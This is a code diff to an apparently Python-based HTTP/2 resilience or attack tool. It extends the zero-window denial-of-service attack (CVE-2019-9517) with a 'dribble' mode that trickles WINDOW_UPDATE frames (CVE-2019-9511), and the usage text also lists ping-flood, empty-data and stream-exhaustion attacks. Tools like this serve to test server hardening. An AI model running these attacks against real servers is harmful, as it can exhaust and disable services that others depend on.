@@ -24,7 +24,8 @@ Attacks:
   ping-flood         --count N: PING frames (CVE-2019-9512); --no-read: never read while sending
   empty-data         --count N: DATA frames of length 0 without END_STREAM on an open stream (CVE-2019-9518)
   zero-window        --count N streams: SETTINGS_INITIAL_WINDOW_SIZE 0, GET --path on N streams, never
-                     WINDOW_UPDATE; watches for --hold seconds (CVE-2019-9517)
+                     WINDOW_UPDATE (--dribble B: B bytes per stream every 200 ms); watches for --hold seconds
+                     (CVE-2019-9517, CVE-2019-9511)
   many-streams       --count N: N requests without END_STREAM before reading anything (over max concurrent);
                      --ack-first: after acknowledging the server's SETTINGS
   malformed          --case NAME[,NAME...]: per case, on a new connection, one malformed request (see MALFORMED)
@@ -367,8 +368,16 @@ def zero_window(c, args):
     for i in range(args.count):
         requests += headers_frame(1 + 2 * i, request_fields(args.authority, args.path))
     c.send(bytes(requests), frames=args.count)
-    # Never send WINDOW_UPDATE: watch until every stream was reset, the connection closed, or --hold passed.
-    c.pump(args.hold, until=lambda: len(c.result["resets"]) >= args.count or c.result["goaway"] is not None)
+    # Never send WINDOW_UPDATE (or, with --dribble N, N bytes per stream every 200 ms): watch until every stream
+    # was reset, the connection closed, or --hold passed.
+    done = lambda: len(c.result["resets"]) >= args.count or c.result["goaway"] is not None
+    deadline = time.monotonic() + args.hold
+    while time.monotonic() < deadline and not done() and not c.result["closed"]:
+        if args.dribble:
+            updates = b"".join(frame(WINDOW_UPDATE, 0, 1 + 2 * i, struct.pack(">I", args.dribble))
+                               for i in range(args.count))
+            c.send(updates, frames=args.count)
+        c.pump(min(0.2, max(0.0, deadline - time.monotonic())), until=done)
     c.finish("zero-window", {"streams": args.count})
 
 
@@ -488,6 +497,7 @@ def main():
     parser.add_argument("--ack-first", action="store_true", help="many-streams: acknowledge SETTINGS first")
     parser.add_argument("--no-read", action="store_true")
     parser.add_argument("--hold", type=float, default=3.0)
+    parser.add_argument("--dribble", type=int, default=0, help="zero-window: window bytes per stream every 200 ms")
     args = parser.parse_args()
     if args.attack == "malformed" and not args.case:
         parser.error("malformed needs --case")
